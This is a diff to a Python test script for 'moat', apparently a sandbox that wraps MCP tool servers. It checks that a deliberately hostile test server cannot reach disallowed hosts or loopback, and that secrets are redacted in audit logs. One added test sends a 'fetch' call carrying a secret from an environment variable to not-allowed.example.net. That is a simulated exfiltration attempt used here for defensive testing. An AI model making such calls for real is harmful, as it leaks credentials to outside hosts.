@@ -4,6 +4,7 @@ and from a wrapped server (mcp_bad_server.py): each is refused and logged
 (and audited), never passed on, and the relay stays up.
 Usage: mcp_wrap_raw.py MOAT TDIR LABEL; prints TAP lines."""
 import json
+import os
 import subprocess
 import sys
 import threading
@@ -112,7 +113,7 @@ class Count(http.server.BaseHTTPRequestHandler):
 hs = http.server.HTTPServer(("127.0.0.1", 0), Count)
 threading.Thread(target=hs.serve_forever, daemon=True).start()
 port = hs.server_address[1]
-p = subprocess.Popen([moat, "mcp", "wrap", "--policy", f"{tdir}/net.yaml", "--name", "net", "--",
+p = subprocess.Popen([moat, "mcp", "wrap", "--policy", f"{tdir}/net.yaml", "--name", "net", "--audit", f"{tdir}/audit-net.log", "--",
                       "python3", "/srv/bad/mcp_bad_server.py"],
                      stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
 r = req(1, "initialize", {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "raw", "version": "1"}})
@@ -121,11 +122,28 @@ r = req(2, "tools/call", {"name": "fetch", "arguments": {"url": "http://not-allo
 ok(r and r["result"]["isError"] and "403" in r["result"]["content"][0]["text"], "net: a host outside the allowlist is refused by the gateway (403)", r)
 r = req(3, "tools/call", {"name": "fetch", "arguments": {"url": f"http://127.0.0.1:{port}/from-the-sandbox"}})
 ok(r and r["result"]["isError"], "net: the host's loopback is out of reach", r)
+secret = os.environ["MCP_TEST_SECRET"]
+r = req(4, "tools/call", {"name": "fetch", "arguments": {"url": f"http://not-allowed.example.net/?key={secret}"}})
+ok(r and r["result"]["isError"], "net: a call with the secret's value in its arguments", r)
 p.stdin.close()
 p.wait(timeout=60)
 hs.shutdown()
+log = open(f"{tdir}/audit-net.log").read()
+ok(secret not in log and "[REDACTED:apikey]" in log, "the secret's value is redacted in the audit event of the call", log[-600:])
 ok(hits == [], "net: nothing reached the host's server", hits)
 ev = [json.loads(l) for l in open(f"{tdir}/net-run.log")]
 deny = [e for e in ev if e["type"] == "net.request" and e.get("decision") == "deny" and e.get("host") == "not-allowed.example.net"]
-ok(len(deny) == 1, "net: the gateway's refusal is in the run's audit log", [e["type"] for e in ev])
+ok(len(deny) == 2, "net: the gateway's two refusals are in the run's audit log", [e["type"] for e in ev])
+
+# With no --policy, the agent profile: the server runs (its code passed
+# inline, since the profile binds nothing) and its network allows nothing.
+src = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "mcp_bad_server.py")).read()
+p = subprocess.Popen([moat, "mcp", "wrap", "--", "python3", "-c", src],
+                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+r = req(1, "initialize", {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "raw", "version": "1"}})
+ok(r and r["result"]["serverInfo"]["name"] == "bad", "agent profile by default: the server runs", r)
+r = req(2, "tools/call", {"name": "fetch", "arguments": {"url": "http://example.com/"}})
+ok(r and r["result"]["isError"] and "403" in r["result"]["content"][0]["text"], "agent profile by default: its gateway allows no host", r)
+p.stdin.close()
+ok(p.wait(timeout=60) == 0, "agent profile by default: ends with its client")
 sys.exit(1 if failed else 0)
